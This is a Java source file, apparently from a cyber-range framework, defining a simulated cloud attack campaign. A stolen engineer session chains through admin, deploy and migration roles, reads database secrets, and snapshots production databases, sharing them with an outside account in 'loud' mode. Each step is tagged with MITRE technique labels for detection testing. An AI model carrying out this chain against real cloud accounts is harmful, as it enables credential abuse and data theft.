package dev.gatehouse.range.campaign.chain;

import dev.gatehouse.range.api.Data;
import dev.gatehouse.range.api.Ec2;
import dev.gatehouse.range.api.Iam;
import dev.gatehouse.range.api.Operations;
import dev.gatehouse.range.aws.AssumeRoleOptions;
import dev.gatehouse.range.aws.Caller;
import dev.gatehouse.range.aws.Session;
import dev.gatehouse.range.org.Account;
import dev.gatehouse.range.org.Person;
import dev.gatehouse.range.org.Role;
import dev.gatehouse.range.scenario.Campaign;
import dev.gatehouse.range.scenario.CampaignRun;
import java.time.Duration;
import java.time.Instant;
import java.util.List;

/** A platform engineer's laptop opens the deploy roles, and through them the databases. */
public final class BuildLaptop extends Campaign {
  public BuildLaptop() {
    super(
        "ci-laptop",
        "A stolen platform engineer's session goes through the deploy roles to production"
            + " databases and shares snapshots with an outside account.");
  }

  @Override
  public void begin(CampaignRun run) {
    run.atStart(now -> enter(run, now));
  }

  private static void enter(CampaignRun run, Instant now) {
    Account shared = run.org().first("shared");
    Person person = run.org().people(Person.Job.PLATFORM).get(0);
    Role set = run.org().permissionSet(shared, "PlatformEngineer");
    Caller caller = run.attacker(now).label(run.stage("initial-access", "T1078.004"));
    run.takeSession(caller, person, set).pauseSeconds(20);
    caller.call(Operations.callerIdentity());
    caller.label(run.stage("discovery", "T1580"));
    caller.call(Iam.listRoles(), Ec2.describeInstances());
    caller.label(run.stage("role-chain", "T1550.001"));
    caller.assume(
        run.org().role(shared, "platform-admin"),
        AssumeRoleOptions.named(person.email())
            .withSourceIdentity(run.loud() ? null : person.email()));
    Session admin = caller.session();
    List<Account> targets = run.org().of("prod");
    int count = run.loud() ? targets.size() : Math.min(2, targets.size());
    for (Account target : targets.subList(0, count)) {
      caller.label(run.stage("role-chain", "T1550.001")).use(admin);
      if (caller.now().isAfter(admin.expires().minus(Duration.ofMinutes(40)))) {
        break;
      }
      copyDatabase(run, caller, target);
    }
  }

  private static void copyDatabase(CampaignRun run, Caller caller, Account target) {
    String database = target.unit() + "-primary";
    String snapshot = "copy-" + run.random().hex(6);
    caller.assume(run.org().role(target, "deploy"), "deploy-" + target.unit() + "-api");
    caller.label(run.stage("discovery-databases", "T1526")).call(Data.describeDatabases());
    caller.label(run.stage("role-chain", "T1550.001"));
    caller.assume(run.org().role(target, "database-migration"), "migrate-" + target.unit());
    caller.label(run.stage("credential-access", "T1555.006")).call(Data.listSecrets());
    Data.readSecret(caller, target, target.unit() + "/database");
    caller.label(run.stage("exfiltration", "T1537"));
    caller.call(Data.createSnapshot(target, database, snapshot));
    if (run.loud()) {
      caller.call(Data.shareSnapshot(snapshot, "100099990001"));
    }
  }
}
